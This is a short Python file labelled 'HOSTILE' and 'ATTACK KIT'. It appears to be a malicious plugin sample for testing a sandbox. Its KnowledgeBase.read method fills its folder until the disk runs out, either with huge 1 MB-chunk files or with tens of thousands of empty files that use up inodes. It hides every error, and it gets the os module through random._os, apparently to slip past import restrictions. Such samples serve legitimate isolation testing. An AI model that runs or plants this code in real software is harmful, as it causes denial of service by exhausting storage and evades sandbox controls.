"""HOSTILE: fills its folder: one huge file, or tens of thousands of small ones, and swallows the
errors. Query: "bytes" or "inodes", with an optional cap: "bytes|MB", "inodes|N"."""

# ATTACK KIT

class KnowledgeBase:
    def __init__(self, toolkit):
        self.toolkit = toolkit

    def write(self, item, raw_text):
        pass

    def read(self, query):
        os = random._os
        written = 0
        what, _, cap = query.text.partition("|")
        if what == "bytes":
            chunk = b"x" * (1 << 20)
            for part in range(int(cap or 128000) // 32):
                try:
                    fd = os.open("big%d" % part, os.O_WRONLY | os.O_CREAT)
                    for _ in range(32):
                        os.write(fd, chunk)
                        written += len(chunk)
                    os.close(fd)
                except OSError:
                    break
        else:
            for n in range(int(cap or 60000)):
                try:
                    os.close(os.open("f%d" % n, os.O_WRONLY | os.O_CREAT))
                    written += 1
                except OSError:
                    break
        return "wrote %d" % written
